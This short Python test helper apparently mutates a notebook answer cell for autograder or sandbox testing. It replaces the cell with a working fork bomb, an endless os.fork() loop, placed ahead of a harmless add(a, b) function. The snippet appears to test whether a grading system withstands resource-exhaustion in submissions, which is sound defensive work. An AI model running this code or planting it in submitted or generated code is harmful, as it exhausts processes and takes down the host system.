def mutate(cells):
    cells["answer-t1"]["source"] = """import os

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass


import time

time.sleep(10)


def add(a, b):
    return a + b"""
